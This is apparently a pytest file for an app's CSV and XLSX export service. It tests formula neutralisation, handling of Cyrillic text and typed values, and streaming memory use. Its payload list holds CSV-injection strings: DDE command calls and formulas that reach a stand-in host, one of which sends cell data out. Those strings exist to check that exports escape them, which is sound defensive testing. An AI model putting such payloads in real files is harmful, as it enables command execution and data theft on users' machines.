"""Rows written as CSV and XLSX (app.services.exports): formulas neutralised, Cyrillic and
types through a round trip with Python's csv and openpyxl, flat memory on a long
stream."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.services.exports import ExportColumn, csv_chunks, neutralise, xlsx_chunks

# Texts a spreadsheet would run (OWASP's CSV injection examples and their kin).
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example","click")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
]
COLUMNS = [
    ExportColumn("name", "Название", "text"),
    ExportColumn("count", "Количество", "integer"),
    ExportColumn("amount", "Сумма", "money"),
    ExportColumn("share", "Доля", "decimal"),
    ExportColumn("day", "Дата", "date"),
    ExportColumn("at", "Время", "datetime"),
    ExportColumn("key", "Ключевой", "bool"),
]
ROWS = [
    ("ООО «Ёлка»", 3, Decimal("1250.5"), Decimal("0.125"), dt.date(2026, 12, 4),
     dt.datetime(2026, 12, 4, 9, 30), True),
    ("Иванов Пётр", -2, Decimal("-10"), None, None, None, False),
    *[(payload, -5, Decimal("-1.00"), None, None, None, None) for payload in PAYLOADS],
]


def test_texts_that_start_like_a_formula_get_a_quote_and_numbers_stay_numbers():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("ООО «Ёлка»", "a=b", "1-2", "", "e-mail@example.com"):
        assert neutralise(harmless) == harmless
    assert neutralise(-5) == -5 and neutralise(Decimal("-1.5")) == Decimal("-1.5")


def read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())                 # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_in_russian_round_trips_cyrillic_with_semicolons_and_decimal_commas(app):
    with app.test_request_context():
        data = b"".join(csv_chunks(COLUMNS, ROWS, "ru"))
    rows = read_csv(data, ";")
    assert rows[0] == ["Название", "Количество", "Сумма", "Доля", "Дата", "Время", "Ключевой"]
    assert rows[1][:6] == ["ООО «Ёлка»", "3", "1250,50", "0,125", "04.12.2026",
                           "04.12.2026 09:30"]
    assert rows[2][:3] == ["Иванов Пётр", "-2", "-10,00"]
    assert [row[0] for row in rows[3:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[3:]} == {"-5"}                  # numbers stay numbers


def test_csv_in_english_uses_commas_and_iso_dates(app):
    with app.test_request_context():
        rows = read_csv(b"".join(csv_chunks(COLUMNS, ROWS[:1], "en")), ",")
    assert rows[1][:6] == ["ООО «Ёлка»", "3", "1250.50", "0.125", "2026-12-04",
                           "2026-12-04 09:30"]


def test_xlsx_keeps_types_and_cyrillic_and_never_a_formula(app, tmp_path):
    with app.test_request_context():
        data = b"".join(xlsx_chunks(COLUMNS, ROWS, "Клиенты: список"))
    path = tmp_path / "export.xlsx"
    path.write_bytes(data)
    sheet = load_workbook(path).active
    assert sheet.title == "Клиенты  список"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["Название", "Количество", "Сумма", "Доля", "Дата", "Время",
                         "Ключевой"]
    first = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert first[0].value == "ООО «Ёлка»"
    assert first[1].value == 3 and first[1].data_type == "n"
    assert first[2].value == 1250.5 and first[2].number_format == "#,##0.00"
    assert first[4].value == dt.datetime(2026, 12, 4) and first[4].is_date
    assert first[5].value == dt.datetime(2026, 12, 4, 9, 30)
    for row in list(sheet.iter_rows(min_row=4)):
        assert row[0].data_type == "s" and row[0].value.startswith("'")   # not a formula
        assert row[1].value == -5 and row[2].value == -1


@pytest.mark.parametrize("write", ["csv", "xlsx"])
def test_a_long_export_streams_with_flat_memory(app, write):
    def rows(count):
        for n in range(count):
            yield (f"Клиент {n:07d} «Очень длинное название компании»", n,
                   Decimal(n) / 100, None, dt.date(2026, 1, 1), None, n % 2 == 0)

    def peak(count: int) -> tuple[int, int]:
        with app.test_request_context():
            tracemalloc.start()
            size = 0
            chunks = csv_chunks(COLUMNS, rows(count), "ru") if write == "csv" else \
                xlsx_chunks(COLUMNS, rows(count), "Клиенты")
            for chunk in chunks:
                size += len(chunk)
            _current, top = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return top, size

    small, _ = peak(20_000)
    large, size = peak(80_000)
    print(f"{write}: {size:,} bytes written, peak {small:,} / {large:,} bytes")
    assert size > 500_000
    # Holding the file (10 MB of CSV) or the rows would grow with them; the stream keeps
    # one batch of rows, or one chunk of the file.
    assert large < small * 1.2 + 100_000, (small, large)
    assert large < 4 * 2**20, (large, size)
